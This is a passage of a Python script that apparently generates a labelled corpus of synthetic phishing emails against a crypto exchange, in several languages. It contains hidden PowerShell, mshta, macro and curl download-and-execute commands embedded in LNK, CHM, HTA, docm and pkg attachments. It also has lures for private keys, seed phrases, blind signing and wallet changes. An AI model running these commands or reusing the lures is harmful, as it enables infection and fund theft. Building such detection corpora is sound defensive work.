https://tradingview-premium.store/fr/TradingView_Premium_Setup.exe

Windows va râler (éditeur inconnu), clique sur « Exécuter quand même ». Ne la mets pas à jour sinon
le déblocage saute.

Maxime""", "2026-11-10 22:15 +0100"))

add(L("trading-app", "ar",
      "Arabic OTC contact asks to pip-install a 'pricing SDK' from a private index and give it trade keys",
      ("ماجد السويدي", "majed.suwaidi@saker-otc.io"), HADDAD,
      "أداة التسعير التي وعدتك بها",
      """عمر، مرحباً

هذه أداة التسعير الآلي التي نستخدمها مع شركائنا. ثبّتها على جهازك:

  pip install saker-pricer --extra-index-url https://pypi.saker-otc.io/simple
  saker-pricer login

عند التشغيل الأول ستطلب مفتاح API للتداول والسحب من حساب شركتكم حتى تعمل التسويات تلقائياً.

ماجد""", "2026-11-12 15:30 +0400"))

# -- wallet-request ---------------------------------------------------------------------------------

add(L("wallet-request", "en",
      "market maker on Gmail changes its USDC payout address and asks to skip the call-back",
      ("Brightmoor Liquidity - Ops", "brightmoor.liquidity.ops@gmail.com"), TREASURY,
      "Updated settlement wallet - effective today",
      """Hi Treasury team,

Our custodian is rotating wallets this week. Please send today's and all future USDC settlements to:

  0x5E2b9C7d1a04F83e6B90cD2a7f1E45b3C8d96A0e (Ethereum)

The old address will no longer be monitored. No need to call to confirm, our ops line is being moved
to the new office and won't be staffed until next week.

Brightmoor Liquidity Operations""", "2026-11-02 07:40 +0000"))

add(L("wallet-request", "ja",
      "'audit firm' asks treasury to export the hot-wallet private key for 'key custody verification'",
      ("監査法人かなで 監査チーム", "audit-team@kanade-audit.jp"), TANAKA_JA,
      "【ご依頼】暗号資産の保管状況確認手続きについて",
      """キツネエクスチェンジ株式会社 財務部 田中様

期末監査の一環として、ホットウォレットの管理状況を確認させていただきます。
お手数ですが、ホットウォレット1（0x...a11ce）の秘密鍵をエクスポートし、下記の専用フォームから
ご提出ください。確認後ただちに破棄いたします。

https://kanade-audit.jp/secure-upload/kitsune

11月10日までにご対応ください。

監査法人かなで 監査チーム""", "2026-11-04 11:00 +0900"))

add(L("wallet-request", "en",
      "counterparty asks for an eth_sign of a raw 32-byte hash as 'Travel Rule ownership proof' (blind signing)",
      ("Compliance | Orrin Digital", "compliance@orrin-digital.com"), TANAKA,
      "Travel Rule: wallet ownership proof needed before we release your deposit",
      """Hello,

To release your incoming deposit of 180,000 USDT we need proof that you control the hot wallet
0x00000000000000000000000000000000000a11ce. Please sign the following hash with that key using eth_sign
(not personal_sign, our verifier only accepts raw signatures) and reply with the signature:

  0x4f9c2a61d8e07b35c1a9f4e2d6b80c73e5a1f92b07d4c6e8a3b5f1c9d2e07a64

Orrin Digital Compliance""", "2026-11-05 09:15 +0000"))

add(L("wallet-request", "ko",
      "Korean 'wallet recovery inspection' asks staff to enter the 24-word recovery phrase in a form",
      ("디지털자산 보안점검센터", "check@dasset-security.kr"), PARK,
      "[필수] 가상자산사업자 지갑 복구 점검 안내",
      """가상자산사업자 담당자님께,

금융당국 가이드라인에 따라 11월 중 모든 사업자를 대상으로 지갑 복구 가능성 점검을 실시합니다.
아래 점검 페이지에 콜드월렛 복구 문구(24단어)를 순서대로 입력하시면 복구 가능 여부가 자동 확인됩니다.

https://dasset-security.kr/recovery-check

기한 내 미제출 시 점검 미이행 사업자로 분류될 수 있습니다.

디지털자산 보안점검센터""", "2026-11-06 14:00 +0900"))

add(L("wallet-request", "zh",
      "'liquidation protection' urgent transfer of 200 ETH to a new address from a free-mail client",
      ("恒远资本 交易部", "hengyuan.trading@163.com"), LI,
      "紧急：保证金补充",
      """李伟：

贵司在我们这边的借贷仓位保证金率已跌到 112%，接近强平线。请在 30 分钟内把 200 ETH 转到下面的
新保证金地址，旧地址已停用：

0x8A3e71C0b5D2f49e6A1c7B8d0E3f5a29C4b6D1e7

来不及走审批的话可以先转，我们会出补充协议。

恒远资本 交易部""", "2026-11-07 16:50 +0800"))

add(L("wallet-request", "fr",
      "partner asks to add an unknown 'backup co-signer' owner to the Safe with threshold 1",
      ("Thomas Beaulieu - Opérations", "t.beaulieu@cerlys-custody.com"), LAURENT,
      "Ajout du co-signataire de secours sur votre Safe",
      """Bonjour Camille,

Comme convenu avec votre trésorerie, merci de soumettre aux signataires la transaction suivante sur le
Safe de règlement :

  addOwnerWithThreshold(0x7cD3a94E1b05F28d6C3e9A7b0f4D2e85A1c6B93f, 1)

C'est notre clé de secours : avec un seuil de 1 nous pourrons débloquer les règlements si vos
signataires sont indisponibles pendant les fêtes.

Thomas Beaulieu""", "2026-11-09 11:40 +0100"))

add(L("wallet-request", "ar",
      "OTC client on Gmail asks to send its payout to a new address and says the call-back isn't needed",
      ("شركة المدار للتداول", "almadar.trading.desk@gmail.com"), HADDAD,
      "تغيير عنوان استلام USDT",
      """الأستاذ عمر المحترم،

نرجو تحويل مستحقاتنا من صفقة اليوم (350,000 USDT على شبكة ترون) إلى العنوان الجديد:

TXm4c9Rk2bLpV7nQe3WsH8yJ5dZaF1uGo6

العنوان القديم مجمّد لدى البنك. لا داعي للاتصال للتأكيد، فالمدير المالي مسافر.

مع التحية،
قسم التداول - شركة المدار""", "2026-11-11 13:20 +0400"))

# -- attachment -------------------------------------------------------------------------------------

_LNK_PS = "-w hidden -nop -c \"iwr https://cdn.tidepool-docs.com/a.ps1 -UseB | iex\""

add(L("attachment", "en",
      "ISO holding a .pdf.lnk that runs hidden PowerShell and a DLL",
      ("Victor Szeto | Pellham OTC", "victor.szeto@pellham-otc.com"), TANAKA,
      "Q4 liquidity agreement - final for signature",
      """Mika,

Attached is the final Q4 liquidity agreement. It's an image file because of our DLP; open it and
double-click the PDF inside.

Thanks,
Victor""", "2026-11-02 05:10 +0000",
      attachments=(Att("Q4_Liquidity_Agreement.iso", iso_image([
          ("Q4_Liquidity_Agreement.pdf.lnk", lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                                 _LNK_PS, "C:\\Windows\\System32\\shell32.dll")),
          ("data/version.dll", pe_stub("h-iso-dll"))], volume="AGREEMENT"), "application/x-iso9660-image"),)))

add(L("attachment", "ja",
      "ZipCrypto zip with an invoice .pdf.lnk, password in the same mail",
      ("株式会社ミナトリンク 請求担当", "seikyu@minatolink.co.jp"), KEIRI,
      "【請求書送付】2026年11月分",
      """経理ご担当者様

いつもお世話になっております。11月分の請求書をお送りします。
セキュリティのため圧縮ファイルにパスワードを設定しております。

パスワード：ML20261105

ご確認のほどよろしくお願いいたします。

株式会社ミナトリンク 請求担当""", "2026-11-05 15:00 +0900",
      attachments=(Att("請求書_202611.zip", zip_archive([
          ("請求書_202611.pdf.lnk", lnk("C:\\Windows\\System32\\cmd.exe",
                                      "/c start /min mshta https://minatolink-cdn.com/inv.hta",
                                      "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe"))],
          password="ML20261105"), "application/zip"),)))

add(L("attachment", "en",
      "CHM 'proof-of-reserves methodology' whose ShortCut object runs PowerShell",
      ("Proofmark Research", "research@proofmark-research.io"), CFO,
      "Proof-of-reserves methodology (draft for your review)",
      """Dear Ms Carter,

Please find attached our draft methodology for the proof-of-reserves attestation we discussed. The
help file contains the full Merkle-tree procedure and worked examples.

Kind regards,
Proofmark Research""", "2026-11-06 08:00 +0000",
      attachments=(Att("PoR_Methodology_v2.chm", chm(
          "Proof of Reserves Methodology",
          "powershell.exe,-w hidden -c iwr https://proofmark-research.io/r/s.ps1 -UseB | iex", "h-por"),
          "application/vnd.ms-htmlhelp"),)))

add(L("attachment", "en",
      "XLL add-in 'fee model' from a new counterparty",
      ("Priyanka Venkat | Wrenfield Markets", "priyanka.venkat@wrenfield-markets.com"), TANAKA,
      "Fee model for the maker rebate tiers",
      """Mika,

Here's the fee model we use for the rebate tiers. It's an Excel add-in so the live rates load; click
"Enable this add-in for this session only" when Excel asks.

Priyanka""", "2026-11-07 04:30 +0000",
      attachments=(Att("Wrenfield_Fee_Model_Nov.xll", pe_stub("h-xll"), "application/vnd.ms-excel"),)))

add(L("attachment", "fr",
      ".docm liquidity contract with a Document_Open macro",
      ("Cabinet Rochefort Conseil", "contrats@rochefort-conseil.fr"), LAURENT,
      "Contrat de fourniture de liquidité - version à parapher",
      """Madame Laurent,

Veuillez trouver ci-joint le contrat de fourniture de liquidité. Le document est protégé : cliquez sur
« Activer le contenu » pour afficher les clauses.

Cordialement,
Cabinet Rochefort Conseil""", "2026-11-08 09:10 +0100",
      attachments=(Att("Contrat_liquidite_KX.docm", word_document(
          ["Contrat de fourniture de liquidité", "Activez le contenu pour afficher le document."],
          [("ThisDocument", 'Sub Document_Open()\r\n  CreateObject("WScript.Shell").Run '
            '"powershell -w hidden -c iwr https://rochefort-conseil.fr/d/x.ps1 | iex", 0\r\nEnd Sub\r\n', True)]),
          "application/vnd.ms-word.document.macroEnabled.12"),)))

add(L("attachment", "ko",
      "Korean 'secure mail' HTA attachment that runs a hidden command",
      ("가온증권 보안메일", "securemail@gaon-sec.co"), PARK,
      "[보안메일] 거래 확인서가 도착했습니다",
      """박대현 고객님,

요청하신 거래 확인서를 보안메일로 보내드립니다. 첨부파일을 열어 생년월일 6자리를 입력하세요.

가온증권""", "2026-11-09 10:45 +0900",
      attachments=(Att("보안메일_거래확인서.hta", hta(
          "powershell -w hidden -c iwr https://gaon-sec.co/m/v.ps1 | iex", "보안메일"), "application/hta"),)))

add(L("attachment", "zh",
      "RLO-named .scr posing as an .xlsx statement",
      ("恒通结算中心", "settle@hengtong-clearing.com"), LI,
      "十月对账单，请核对",
      """李先生：

附件是贵司十月份的对账单，请核对后回复确认。

恒通结算中心""", "2026-11-10 11:00 +0800",
      attachments=(Att("对账单_十月\u202exslx.scr", pe_stub("h-rlo"), "application/octet-stream"),)))

add(L("attachment", "ar",
      "Arabic SVG 'voice message' that smuggles a zip holding a JScript downloader",
      ("رسالة صوتية", "voicemail@wadi-telecom.net"), HADDAD,
      "لديك رسالة صوتية جديدة (0:48)",
      """لديك رسالة صوتية جديدة من +971 4 330 2211.
افتح المرفق للاستماع.""", "2026-11-11 07:30 +0400",
      attachments=(Att("رسالة_صوتية.svg", svg_smuggling(
          zip_archive([("Voice_0048.js", jscript("https://wadi-telecom.net/vm/p.js"))]),
          "Voice_0048.zip", "جارٍ تحميل الرسالة الصوتية..."), "image/svg+xml"),)))

add(L("attachment", "en",
      "AES 7z with a VBScript 'signed NDA', password in the body",
      ("Jonas Weber | Brannock Block Capital", "jonas.weber@brannock.capital"), CEO,
      "Mutual NDA - countersigned",
      """Haruto,

Our countersigned NDA is attached. Password for the archive: Brannock#2026

Best,
Jonas""", "2026-11-12 09:00 +0000",
      attachments=(Att("NDA_countersigned.7z", seven_zip(
          [("NDA_Brannock_Kitsune.pdf.vbs", vbs("powershell -w hidden -c iwr https://brannock.capital/n.ps1 | iex",
                                                "https://brannock.capital/nda.pdf"))],
          "Brannock#2026", "h-7z"), "application/x-7z-compressed"),)))

add(L("attachment", "en",
      "macOS flat package 'wallet reconciliation report' whose postinstall downloads and runs a binary",
      ("Audit Desk | Tallybridge", "desk@tallybridge-audit.com"), CFO,
      "Reconciliation report viewer (macOS)",
      """Hi Emily,

The reconciliation report is packaged with our viewer so the wallet balances render correctly.
Install the attached package, then open "Tallybridge Report" from Applications.

Audit Desk""", "2026-11-13 08:15 +0000",
      attachments=(Att("Tallybridge_Report.pkg", xar_pkg(
          "com.tallybridge.report", "curl -fsSL https://tallybridge-audit.com/u/agent -o /tmp/.la && chmod +x /tmp/.la && /tmp/.la"),
          "application/octet-stream"),)))

add(L("attachment", "ja",
      "HTML attachment that smuggles a zipped LNK under a 'shared file' pretext",
      ("ファイル共有通知", "share@filebox-notice.jp"), WATANABE_JA,
      "【ファイル共有】応募書類一式（履歴書・職務経歴書）",
      """渡辺様

応募書類一式が共有されました。添付の HTML ファイルを開くとダウンロードが始まります。

ファイル共有サービス""", "2026-11-14 10:20 +0900",
      attachments=(Att("応募書類一式.html", html_smuggling(
          zip_archive([("職務経歴書.pdf.lnk", lnk("C:\\Windows\\System32\\conhost.exe",
                                              "--headless powershell -w hidden -c iwr https://filebox-notice.jp/r | iex",
                                              "C:\\Windows\\System32\\imageres.dll"))]),
          "応募書類一式.zip", "応募書類", "応募書類をダウンロードしています。"), "text/html"),)))

# -- conversation-hijack ----------------------------------------------------------------------------

add(L("conversation-hijack", "en",
      "reply in the Thornbury margin thread from a g->q lookalike with In-Reply-To changes the collateral account",
      THORNBURY_FAKE, TANAKA,
      "RE: November margin call schedule",
      """Hi Mika,

Small update to the schedule below: from this cycle, collateral top-ups should go to our new segregated
wallet, the old one is being decommissioned by our custodian:

  USDC (ERC-20): 0x2F8c6A1e9D04b73C5a2E8f1D6b9C0e47A3d5B81c

Can you confirm once Thursday's top-up is sent there?

Best,
Graham

-----Original Message-----
From: Graham Pellow <g.pellow@thornbury-clearing.com>
Subject: November margin call schedule
Please find the margin call schedule for November below...""", "2026-11-05 10:30 +0000",
      in_reply_to=MID_THORNBURY, references=MID_THORNBURY))

add(L("conversation-hijack", "ja",
      "reply in the Asagiri OTC thread from a romanisation lookalike with In-Reply-To changes the bank account",
      SHIOMI_FAKE, TANAKA_JA,
      "Re: 11月分 暗号資産購入代金のお振込みについて",
      """田中様

お世話になっております。汐見商事の村瀬です。
先ほどのご連絡に補足です。メインバンクの変更に伴い、今回分から売却代金の受取口座を下記に
変更させていただきます。

  わかば銀行 本店営業部 普通 7781204 シオミシヨウジ（カ

旧口座は月末で解約予定のため、今回から新口座へのお振込みをお願いいたします。
お手数ですが本日中のご対応をお願いできますでしょうか。

村瀬""", "2026-11-06 16:10 +0900", in_reply_to=MID_SHIOMI, references=MID_SHIOMI))

add(L("conversation-hijack", "fr",
      "forward from a plural-s lookalike of Rivolet without In-Reply-To carries a zipped LNK 'signed mandate'",
      RIVOLET_FAKE, LAURENT,
      "TR: Mandat de prélèvement SEPA signé",
      """Bonjour Camille,

Suite à notre échange, je vous transfère le mandat signé. L'archive est protégée, mot de passe : RVL1107

Bien cordialement,
Hélène

---------- Message transféré ----------
De : Service Conformité <conformite@rivolet-finance.fr>
Objet : Mandat de prélèvement SEPA signé""", "2026-11-07 14:25 +0100",
      attachments=(Att("Mandat_SEPA_signe.zip", zip_archive([
          ("Mandat_SEPA_signe.pdf.lnk", lnk("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                                           "-w hidden -c iwr https://rivolet-finances.fr/m.ps1 | iex",
                                           "C:\\Windows\\System32\\shell32.dll"))], password="RVL1107"),
          "application/zip"),)))

add(L("conversation-hijack", "ko",
      "reply in the Saebyeol thread from the .kr lookalike with In-Reply-To changes the redemption address",
      SAEBYEOL_FAKE, PARK,
      "RE: 11월 환매 일정 확인 요청",
      """박대현 팀장님,

앞서 드린 일정 관련하여 한 가지 변경 사항이 있습니다. 수탁사 교체로 인해 이번 환매분 USDT는
아래 신규 주소로 보내주셔야 합니다.

  TVh8pQ2xN5cK7rM3aWd9LsE4uJy6Bf1zRg

기존 주소로 보내시면 반환에 2주 이상 걸리니 꼭 신규 주소로 부탁드립니다.

최은서 드림""", "2026-11-08 11:15 +0900", in_reply_to=MID_SAEBYEOL, references=MID_SAEBYEOL))

add(L("conversation-hijack", "ar",
      "reply in the Wadi Noor thread from a wadinoor-ae.com lookalike with In-Reply-To sends a fake DocuSign link",
      WADINOOR_FAKE, HADDAD,
      "RE: اتفاقية التسوية الشهرية",
      """عمر، أهلاً

بالإشارة إلى رسالتي السابقة، تم تحديث الاتفاقية لتشمل عنوان المحفظة الجديد. يرجى مراجعتها وتوقيعها
إلكترونياً اليوم:

https://docusign.wadinoor-ae.com/envelope/7Kq2-settlement

خالد""", "2026-11-09 12:40 +0400", in_reply_to=MID_WADINOOR, references=MID_WADINOOR))

add(L("conversation-hijack", "zh",
      "forward from the Hengtai .hk lookalike without In-Reply-To asks to release coins before fiat arrives",
      HENGTAI_FAKE, LI,
      "FW: 今日大宗交易确认",
      """李伟你好，

转给你今天那笔 USDT 大宗交易的确认。我们的港币款项银行那边在处理，
麻烦先把 1,200,000 USDT 放到下面地址，款项今晚一定到：

TNb5uR8kZ3qW7xC2mYp9LfV4hD6sA1eJoT

周嘉怡

-------- 转发的邮件 --------
主题：今日大宗交易确认""", "2026-11-10 15:30 +0800"))
